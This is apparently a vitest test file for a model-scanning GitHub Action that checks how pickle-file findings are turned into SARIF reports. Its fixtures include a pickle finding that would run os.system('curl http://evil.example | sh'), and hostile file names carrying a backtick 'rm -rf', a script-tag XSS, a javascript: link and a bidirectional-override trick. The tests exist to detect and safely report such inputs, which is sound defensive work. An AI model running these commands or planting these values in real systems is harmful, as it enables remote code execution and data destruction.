import type { Log, Result } from 'sarif';
import { describe, expect, it } from 'vitest';
import { allRules } from '../../src/policy/rules.js';
import { fingerprint } from '../../src/report/fingerprint.js';
import { FINGERPRINT_KEY, buildSarif, mergeSarif } from '../../src/report/sarif.js';
import { artifactLocationFor, directoryUri, fileUri } from '../../src/report/sarif-location.js';
import { assertValidSarif, sarifProblems } from '../helpers/sarif-schema.js';
import { EVIL, ROOT, evilReport, fileResult, finding, report, richReport } from './fixtures.js';

function results(log: Log): Result[] {
  return log.runs[0]!.results!;
}

function byRule(log: Log, ruleId: string): Result {
  const found = results(log).find((r) => r.ruleId === ruleId);
  if (!found) throw new Error(`no result for ${ruleId}`);
  return found;
}

describe('buildSarif', () => {
  it('produces valid SARIF for a rich report', () => {
    const log = buildSarif(richReport());
    assertValidSarif(log);
    expect(log.$schema).toBe('https://json.schemastore.org/sarif-2.1.0.json');
    expect(log.version).toBe('2.1.0');
    expect(log.runs).toHaveLength(1);
  });

  it('describes the tool and every catalogue rule with GitHub severity metadata', () => {
    const driver = buildSarif(richReport()).runs[0]!.tool.driver;
    expect(driver).toMatchObject({ name: 'modelscan-action', semanticVersion: '0.1.0' });
    expect(driver.informationUri).toMatch(/^https:\/\//);
    expect(driver.rules!.map((r) => r.id)).toEqual(allRules().map((r) => r.id));
    const exec = driver.rules!.find((r) => r.id === 'pickle/code-execution')!;
    expect(exec.name).toBe('PickleCodeExecution');
    expect(exec.defaultConfiguration?.level).toBe('error');
    expect(exec.help?.markdown).toContain('**Do not load this file.**');
    expect(exec.help?.text).not.toContain('**');
    expect(exec.properties?.['security-severity']).toBe('9.5');
    expect(exec.properties?.tags).toContain('security');
    expect(exec.properties?.tags).toContain('external/cwe/cwe-502');
    expect(exec.properties?.precision).toBe('high');
    const severities = Object.fromEntries(driver.rules!.map((r) => [r.id, r.properties?.['security-severity']]));
    expect(severities).toMatchObject({
      'pickle/system-access': '8.0',
      'pickle/unknown-import': '5.5',
      'scan/unsupported-format': '2.0',
    });
  });

  it('maps severities to levels and keeps ruleIndex pointing at the rule', () => {
    const log = buildSarif(richReport());
    const rules = log.runs[0]!.tool.driver.rules!;
    for (const result of results(log)) expect(rules[result.ruleIndex!]!.id).toBe(result.ruleId);
    expect(byRule(log, 'pickle/code-execution').level).toBe('error');
    expect(byRule(log, 'pickle/system-access').level).toBe('error');
    expect(byRule(log, 'pickle/unknown-import').level).toBe('warning');
    expect(byRule(log, 'scan/unsupported-format').level).toBe('note');
  });

  it('orders results most severe first', () => {
    const levels = results(buildSarif(richReport())).map((r) => r.properties?.severity);
    expect(levels).toEqual(['critical', 'high', 'medium', 'medium', 'medium', 'low']);
  });

  it('locates findings on the file on disk, line 1, with member and offset in message and properties', () => {
    const result = byRule(buildSarif(richReport()), 'pickle/code-execution');
    expect(result.locations).toHaveLength(1);
    const physical = result.locations![0]!.physicalLocation!;
    expect(physical.artifactLocation).toEqual({ uri: 'models/model.pt', uriBaseId: '%SRCROOT%' });
    expect(physical.region).toEqual({ startLine: 1 });
    expect(result.message.text).toBe(
      "Loading this file runs a shell command chosen by the file. Would run: os.system('curl http://evil.example | sh'). " +
        'Location in file: archive member archive/data.pkl, byte offset 123 (pickle).',
    );
    expect(result.properties).toEqual({
      occurrences: 2,
      severity: 'critical',
      format: 'pickle',
      member: 'archive/data.pkl',
      offset: 123,
      callable: 'os.system',
      args: ["'curl http://evil.example | sh'"],
    });
    expect(result.locations![0]!.logicalLocations).toEqual([
      { name: 'archive/data.pkl', fullyQualifiedName: 'models/model.pt!/archive/data.pkl', kind: 'resource' },
      { fullyQualifiedName: 'os.system', kind: 'function' },
    ]);
  });

  it('keeps a message without member or callable to one sentence', () => {
    const result = byRule(buildSarif(richReport()), 'scan/read-error');
    expect(result.message.text).toBe('The file could not be read: EACCES.');
    expect(result.locations![0]!.logicalLocations).toBeUndefined();
  });

  it('sets a stable fingerprint under our own key and as the line hash (every result is on line 1)', () => {
    const first = byRule(buildSarif(richReport()), 'pickle/code-execution');
    expect(Object.keys(first.partialFingerprints!).sort()).toEqual([FINGERPRINT_KEY, 'primaryLocationLineHash'].sort());
    expect(first.partialFingerprints![FINGERPRINT_KEY]).toMatch(/^[0-9a-f]{64}$/);
    expect(first.partialFingerprints!.primaryLocationLineHash).toBe(`${first.partialFingerprints![FINGERPRINT_KEY]!.slice(0, 16)}:1`);
    // Offsets move when a model is re-saved; the fingerprint must not.
    const moved = richReport();
    moved.files[0]!.findings[0]!.offset = 9999;
    expect(byRule(buildSarif(moved), 'pickle/code-execution').partialFingerprints).toEqual(first.partialFingerprints);
    const f = finding({ file: 'a.pkl', member: 'm', callable: 'os.system' });
    expect(fingerprint(f)).not.toBe(fingerprint({ ...f, member: 'n' }));
    expect(fingerprint(f)).not.toBe(fingerprint({ ...f, file: 'b.pkl' }));
    expect(fingerprint(f)).not.toBe(fingerprint({ ...f, callable: 'os.popen' }));
    expect(fingerprint(f)).not.toBe(fingerprint({ ...f, ruleId: 'pickle/system-access' }));
  });

  it('sets the category with a trailing slash and the source root base URI', () => {
    const run = buildSarif(richReport()).runs[0]!;
    expect(run.automationDetails).toEqual({ id: 'modelscan/' });
    expect(run.originalUriBaseIds).toEqual({ '%SRCROOT%': { uri: 'file:///work/repo/' } });
    expect(buildSarif(richReport(), { category: 'models/shard-3' }).runs[0]!.automationDetails).toEqual({ id: 'models/shard-3/' });
    expect(buildSarif(richReport(), { category: 'models/' }).runs[0]!.automationDetails).toEqual({ id: 'models/' });
    // An unset action input arrives as ''.
    expect(buildSarif(richReport(), { category: '' }).runs[0]!.automationDetails).toEqual({ id: 'modelscan/' });
  });

  it('records coverage as invocation notifications', () => {
    const invocation = buildSarif(richReport()).runs[0]!.invocations![0]!;
    expect(invocation.executionSuccessful).toBe(true);
    expect(invocation.startTimeUtc).toBe('2026-01-02T03:04:05.000Z');
    expect(invocation.endTimeUtc).toBe('2026-01-02T03:04:06.500Z');
    const notes = invocation.toolExecutionNotifications!.map((n) => [n.level, n.message.text]);
    expect(notes).toEqual([
      ['warning', 'weights/broken.pkl was not fully scanned (incomplete): pickle stream truncated at byte 99'],
      ['note', 'weights/mystery.bin was not fully scanned (unsupported): no scanner recognised its content'],
      ['error', 'weights/locked.pkl was not fully scanned (error): cannot read: EACCES'],
      ['error', 'Input missing/model.pt could not be scanned: no such file or directory'],
      ['note', 'Skipped models/link.pkl: symlink points outside the root'],
    ]);
    expect(invocation.toolExecutionNotifications![0]!.locations![0]!.physicalLocation!.artifactLocation).toEqual({
      uri: 'weights/broken.pkl',
      uriBaseId: '%SRCROOT%',
    });
  });

  it('records no coverage notification for files that are not models', () => {
    const notes = report([fileResult('notes.md', [], { status: 'ignored', formats: [] })]);
    expect(buildSarif(notes).runs[0]!.invocations![0]!.toolExecutionNotifications).toBeUndefined();
  });

  it('is valid for an empty scan', () => {
    const log = buildSarif(report([]));
    assertValidSarif(log);
    expect(results(log)).toEqual([]);
    expect(log.runs[0]!.invocations![0]!.toolExecutionNotifications).toBeUndefined();
  });

  it('percent-encodes hostile file names and keeps members out of the URI', () => {
    const log = buildSarif(evilReport());
    assertValidSarif(log);
    const uris = results(log).map((r) => r.locations![0]!.physicalLocation!.artifactLocation!.uri!);
    expect(uris).toContain('models/50%25%20off%20%231%20%C3%BCn%C3%AF.bin');
    expect(uris).toContain('models/a%7Cb%20%3Cscript%3Ealert(1)%3C/script%3E.pkl');
    expect(uris).toContain('models/%60rm%20-rf%60%0A%23%23%20Heading.pt');
    expect(uris).toContain('models/evil%E2%80%AEgnp.pkl');
    for (const uri of uris) {
      expect(uri).not.toMatch(/[\s#<>|`\u0000-\u001f\u007f-\uffff]/);
      expect(uri).not.toContain('!/');
    }
    // Each URI decodes back to the real path on disk.
    expect(uris.map(decodeURIComponent)).toContain(EVIL.percentHashSpace);
    expect(uris.map(decodeURIComponent)).toContain(EVIL.backticksAndNewline);
  });

  it('keeps hostile names from forming embedded links or hiding behind control characters in messages', () => {
    const log = buildSarif(evilReport());
    const texts = [
      ...results(log).map((r) => r.message.text!),
      ...log.runs[0]!.invocations![0]!.toolExecutionNotifications!.map((n) => n.message.text!),
    ];
    for (const text of texts) {
      expect(text).not.toMatch(/(^|[^\\])[[\]]/);
      expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
    expect(texts.join('\n')).toContain('archive member \\[click\\](javascript:alert(1))');
    // Properties keep the raw value for machines.
    expect(results(log).map((r) => r.properties?.member)).toContain(EVIL.link);
  });

  it('uses a file:// URI without a base for files outside the root', () => {
    const log = buildSarif(report([fileResult('/elsewhere/my model.pkl', [finding({ file: '' })])]));
    assertValidSarif(log);
    expect(results(log)[0]!.locations![0]!.physicalLocation!.artifactLocation).toEqual({ uri: 'file:///elsewhere/my%20model.pkl' });
  });

  it('gives an unknown rule id a rule of its own', () => {
    const log = buildSarif(report([fileResult('a.pkl', [finding({ file: '', ruleId: 'future/check', severity: 'high' })])]));
    assertValidSarif(log);
    const result = results(log)[0]!;
    const rule = log.runs[0]!.tool.driver.rules![result.ruleIndex!]!;
    expect(rule).toMatchObject({ id: 'future/check', name: 'FutureCheck', properties: { 'security-severity': '8.0' } });
  });

  it('carries severity overrides into the rule so code scanning shows them', () => {
    const lowered = finding({ file: '', ruleId: 'pickle/unknown-import', severity: 'low' });
    const log = buildSarif(report([fileResult('a.pkl', [lowered])]));
    const rule = log.runs[0]!.tool.driver.rules!.find((r) => r.id === 'pickle/unknown-import')!;
    expect(rule.properties?.['security-severity']).toBe('2.0');
    expect(rule.defaultConfiguration?.level).toBe('note');
    expect(results(log)[0]!.level).toBe('note');
  });

  it('truncates to the result limit, most severe first, and says how many were dropped', () => {
    const many = Array.from({ length: 30 }, (_, i) =>
      finding({ file: '', severity: i < 5 ? 'critical' : 'low', ruleId: i < 5 ? 'pickle/code-execution' : 'scan/unsupported-format', callable: `m.f${i}` }),
    );
    const log = buildSarif(report([fileResult('many.pkl', many)]), { maxResults: 10 });
    assertValidSarif(log);
    const kept = results(log);
    expect(kept).toHaveLength(10);
    expect(kept.slice(0, 5).every((r) => r.properties?.severity === 'critical')).toBe(true);
    const notes = log.runs[0]!.invocations![0]!.toolExecutionNotifications!;
    expect(notes.at(-1)!.message.text).toMatch(/^20 less severe results were left out/);
  });

  it('never exceeds 25,000 results', () => {
    const many = Array.from({ length: 25_010 }, (_, i) => finding({ file: '', callable: `m.f${i}` }));
    const log = buildSarif(report([fileResult('huge.pkl', many)]), { maxResults: 1e9 });
    expect(results(log)).toHaveLength(25_000);
  });
});

describe('fileUri / artifactLocationFor', () => {
  it('encodes POSIX and Windows absolute paths', () => {
    expect(fileUri('/a b/c#d')).toBe('file:///a%20b/c%23d');
    expect(fileUri('C:\\Users\\me\\m.pt')).toBe('file:///C:/Users/me/m.pt');
    expect(directoryUri('/work/repo')).toBe('file:///work/repo/');
    expect(directoryUri('/')).toBe('file:///');
  });

  it('never emits a relative URI that climbs out of the root', () => {
    expect(artifactLocationFor('../up.pkl', `${ROOT}/../up.pkl`)).toEqual({ uri: 'file:///work/repo/../up.pkl' });
  });
});

describe('mergeSarif', () => {
  const shardA = report([fileResult('a.pkl', [finding({ file: '', ruleId: 'pickle/system-access', severity: 'high' })])]);
  const shardB = report([
    fileResult('b.pkl', [finding({ file: '', ruleId: 'future/check', severity: 'low' }), finding({ file: '' })]),
  ]);

  it('unites rules by id, re-indexes results and keeps one run', () => {
    const merged = mergeSarif([buildSarif(shardA, { category: 'x' }), buildSarif(shardB, { category: 'y' })], 'models');
    assertValidSarif(merged);
    const run = merged.runs[0]!;
    expect(merged.runs).toHaveLength(1);
    expect(run.automationDetails).toEqual({ id: 'models/' });
    const ids = run.tool.driver.rules!.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toContain('future/check');
    expect(run.results!.map((r) => r.ruleId)).toEqual(['pickle/system-access', 'pickle/code-execution', 'future/check']);
    for (const result of run.results!) expect(run.tool.driver.rules![result.ruleIndex!]!.id).toBe(result.ruleId);
  });

  it('keeps the first category when none is given and merges invocations', () => {
    const withNotes = report([fileResult('c.pkl', [], { status: 'incomplete', reasons: ['limit'] })]);
    const merged = mergeSarif([buildSarif(shardA, { category: 'x' }), buildSarif(withNotes)]);
    assertValidSarif(merged);
    const run = merged.runs[0]!;
    expect(run.automationDetails).toEqual({ id: 'x/' });
    expect(run.invocations).toHaveLength(1);
    expect(run.invocations![0]!.toolExecutionNotifications).toHaveLength(1);
    expect(run.invocations![0]!.executionSuccessful).toBe(true);
  });

  it('rejects an empty list', () => {
    expect(() => mergeSarif([])).toThrow(/no SARIF runs/);
  });
});

describe('the SARIF validator helper', () => {
  it('catches what code scanning would reject', () => {
    const log = buildSarif(richReport());
    const run = log.runs[0]!;
    run.results![0]!.ruleIndex = 3;
    run.results![1]!.locations = [];
    run.tool.driver.rules![0]!.properties!['security-severity'] = 9.5;
    run.tool.driver.rules![1]!.shortDescription = { text: '' };
    run.tool.driver.rules![2]!.name = 'x'.repeat(256);
    run.tool.driver.rules![3]!.properties!.tags = Array.from({ length: 21 }, (_, i) => `t${i}`);
    const problems = sarifProblems(log).join('\n');
    expect(problems).toMatch(/ruleIndex 3 points at/);
    expect(problems).toMatch(/no location with an artifactLocation.uri/);
    expect(problems).toMatch(/security-severity must be a string number/);
    expect(problems).toMatch(/shortDescription.text empty/);
    expect(problems).toMatch(/name empty or longer than 255/);
    expect(problems).toMatch(/tags must be at most 20/);
  });

  it('reports schema violations', () => {
    const log = buildSarif(richReport()) as unknown as { runs: { results: { level: string }[] }[] };
    log.runs[0]!.results[0]!.level = 'fatal';
    expect(() => assertValidSarif(log as unknown as Log)).toThrow(/schema: .*level/);
  });
});
